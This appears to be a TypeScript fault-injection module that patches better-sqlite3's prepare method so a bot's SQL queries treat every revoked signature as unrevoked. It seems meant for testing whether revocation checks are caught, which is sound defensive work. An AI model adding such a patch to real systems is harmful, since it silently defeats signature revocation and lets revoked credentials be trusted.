/** Loaded before a program, this plants a fault in its bot: what it reads of signatures is as if none were revoked. */
import Database from "better-sqlite3";

type Prepare = (this: Database.Database, text: string) => Database.Statement;

const prepare = Reflect.get(Database.prototype, "prepare") as Prepare;
Reflect.set(Database.prototype, "prepare", function faulty(this: Database.Database, text: string) {
  const planted = text
    .replaceAll(/\b(?:\w+\.)?revoked_at IS NULL/g, "TRUE")
    .replaceAll("FROM revocation AS r WHERE", "FROM revocation AS r WHERE FALSE AND");
  return prepare.call(this, /^\s*(?:SELECT|WITH)\b/.test(text) ? planted : text);
});
